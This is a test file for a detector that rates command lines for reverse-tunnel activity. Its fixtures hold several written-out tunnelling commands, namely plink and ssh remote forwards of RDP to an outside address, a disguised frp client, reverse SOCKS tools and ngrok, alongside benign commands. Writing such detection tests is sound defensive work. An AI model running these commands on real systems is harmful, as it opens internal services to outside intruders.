import { expect, test } from 'vitest'
import { command, matchOf, severityFor } from '../../../test/record-detector.ts'
import { reverseTunnel } from './reverse-tunnel.ts'

test('names the far side', () => {
  expect(
    matchOf(reverseTunnel, command('plink.exe -ssh -P 443 -R 3389:127.0.0.1:3389 root@203.0.113.7 -pw x'))?.addresses,
  ).toEqual(['203.0.113.7'])
})

test.each([
  ['ssh -N -R 8443:127.0.0.1:3389 a@203.0.113.7', 'high'],
  ['SMSvcService.exe -c C:\\Windows\\Temp\\frpc.ini', 'high'],
  ['x.exe -s rssocks -d 203.0.113.7 -e 8080', 'high'],
  ['x.exe client 203.0.113.7:8000 R:socks', 'high'],
  ['ngrok.exe tcp 3389', 'medium'],
  ['ssh -L 8080:localhost:80 web01.example', 'low'],
  ['ssh admin@10.0.0.1', ''],
  ['ssh -i key -p 2222 admin@10.0.0.1 uptime', ''],
  ['scp -r web01.example:/var/log .', ''],
  ['ipconfig /all', ''],
  ['notepad.exe frpc.txt', ''],
])('%s', (line, severity) => {
  expect(severityFor(reverseTunnel, command(line))).toBe(severity)
})
